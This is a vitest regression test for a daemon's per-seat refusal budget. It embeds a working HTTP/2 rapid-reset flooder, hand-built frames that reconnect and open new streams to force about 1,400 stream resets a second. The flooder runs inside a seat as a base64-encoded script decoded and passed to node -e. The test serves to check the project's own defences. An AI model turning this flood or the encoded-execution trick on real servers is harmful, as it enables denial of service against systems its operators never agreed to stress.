import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ensureSeatUser } from "../support/seat-user.js";
import { RAW_H2, memoryTarget, type MemoryTarget } from "../support/seat-memory-attack.js";

/**
 * A seat's stream resets (rpc.frames, src/rpc/server.ts's boundDataFrames) are refusals on
 * record, charged to its refusal budget. Attacked from inside a real seat (found by an attack,
 * round nineteen): streams that each send the 65 one-byte DATA frames that get them reset, on all
 * 8 connections, a new stream for each one reset, reconnecting — ~1,400 resets a second. The
 * budget was taken only once a refusal's record was durable, and the seat's refusals went on
 * being recorded while the daemon stopped it: 640-1,040 records landed before the stop, against
 * the budget of 300 (docs/enforcement.md: a run's refusals on record are its budget and one).
 * Now the budget is taken before the record is written, and a seat past it is refused unrecorded.
 */
const asRoot = process.getuid?.() === 0;
if (asRoot) ensureSeatUser();

/** The refusal budget's burst (daemon/seat/pipeline.ts DEFAULT_REFUSAL_BUDGET: 300 at once, then 60 a minute). */
const BURST = 300;
const FLOOD_MS = 15_000;

/** The flooder: CONNS connections, up to INFLIGHT streams each, each stream HEADERS then FRAMES one-byte DATA frames in one write; a new one per reset; reconnects; stops at DUR ms or when the seat is stopped. */
const FLOODER = `${RAW_H2}
const net = require("net");
const [socket, conns, inflight, framesArg, dur] = process.argv.slice(1);
const C = +conns, IN = +inflight, NF = +framesArg, DUR = +dur;
const lit = (n, v) => { n = Buffer.from(n); v = Buffer.from(v); return Buffer.concat([Buffer.from([0, n.length]), n, Buffer.from([v.length]), v]); };
const block = Buffer.concat([lit(":method", "POST"), lit(":scheme", "http"), lit(":path", "/teamd.v1.ShimService/WhoAmI"), lit(":authority", "seat"),
  lit("content-type", "application/grpc"), lit("te", "trailers"), lit("teamd-protocol", process.env.PROTOCOL)]);
const stats = { opened: 0, rst: 0, goaway: 0, closes: 0 };
const t0 = Date.now();
let done = false;
const finish = () => { if (done) return; done = true; console.log(JSON.stringify(stats)); process.exit(0); };
setTimeout(finish, DUR);
function conn() {
  if (done) return;
  const sock = net.connect(socket);
  let nextId = 1, connWin = 65535, gone = false, open = 0;
  sock.on("error", () => {});
  sock.on("close", () => { gone = true; stats.closes++; if (!done && Date.now() - t0 < DUR) setTimeout(conn, 5); });
  const wu = Buffer.alloc(4); wu.writeUInt32BE(1 << 30);
  sock.write(Buffer.concat([Buffer.from("PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n"), u(0, 4, 0, 0), u(4, 8, 0, 0), wu]));
  function more() {
    const out = [];
    while (!gone && open < IN && connWin >= NF && Date.now() - t0 < DUR) {
      const id = nextId; nextId += 2; open++; stats.opened++; connWin -= NF;
      out.push(u(block.length, 1, 4, id), block);
      for (let i = 0; i < NF; i++) out.push(u(1, 0, 0, id), Buffer.from([0x61]));
    }
    if (out.length) sock.write(Buffer.concat(out));
  }
  sock.on("data", frameReader((type, flags, id, p) => {
    if (type === 4 && !(flags & 1)) sock.write(u(0, 4, 1, 0));
    else if (type === 6 && !(flags & 1)) sock.write(Buffer.concat([u(8, 6, 1, 0), p]));
    else if (type === 8 && id === 0) connWin += p.readUInt32BE(0) & 0x7fffffff;
    else if (type === 3) { stats.rst++; open--; }
    else if (type === 7) stats.goaway++;
  }, more));
  more();
}
for (let c = 0; c < C; c++) conn();
`;

interface Rec {
  readonly seq: number;
  readonly type: string;
  readonly actor: string;
  readonly action: string;
  readonly target?: string;
  readonly detail?: { readonly rule?: string };
}

describe.runIf(process.platform === "linux")("escape: a flood of stream resets against the refusal budget", () => {
  let target: MemoryTarget;

  beforeAll(async () => {
    target = await memoryTarget("teamd-reset-flood-");
  }, 120_000);

  afterAll(async () => {
    await target?.h.cleanup();
  }, 60_000);

  it("attack: ~1,400 resets a second put the budget and one on record, then the seat is stopped", async () => {
    const { h } = target;
    const encoded = Buffer.from(FLOODER).toString("base64");
    // The seat is stopped under it (the exec's exit code says so); what it saw is printed if it ran out its time.
    const r = await h.run(
      [
        "exec",
        "--timeout",
        String(FLOOD_MS / 1000 + 15),
        "alpha@proj",
        "--",
        "sh",
        "-c",
        `PROTOCOL=${target.protocol} node -e "$(echo ${encoded} | base64 -d)" /run/teamd/shim.sock 8 16 65 ${FLOOD_MS}`,
      ],
      { timeoutMs: FLOOD_MS + 40_000 },
    );
    console.log(`the flooder exited ${r.code}: ${r.stdout.trim().split("\n").pop() ?? ""}`);
    // Whatever was still being written lands.
    await new Promise((resolve) => setTimeout(resolve, 3000));
    const records = await h.records<Rec>();
    const stop = records.find((x) => x.type === "seat_stop" && JSON.stringify(x).includes("alpha"));
    expect(stop, "the seat was stopped for its refusal budget").toBeDefined();
    const frames = records.filter((x) => x.type === "refusal" && x.detail?.rule === "rpc.frames");
    console.log(`rpc.frames records: ${frames.length}, ${frames.filter((x) => x.seq > (stop?.seq ?? 0)).length} after the stop`);
    // The seat's own, on its own account; the one that found the budget empty is on record before the stop, none after it.
    expect(new Set(frames.map((x) => x.actor))).toEqual(new Set(["seat:proj/alpha"]));
    expect(frames.length).toBeLessThanOrEqual(BURST + 1);
    expect(frames.length).toBeGreaterThan(BURST);
    expect(frames.filter((x) => x.seq > (stop?.seq ?? 0))).toEqual([]);
    const status = await h.json<{ seats: { seat: string; state: string }[] }>(["status", "--json"]);
    expect(status.seats.find((s) => s.seat === "alpha")?.state).toBe("halted: refusal budget");
  }, 180_000);
});
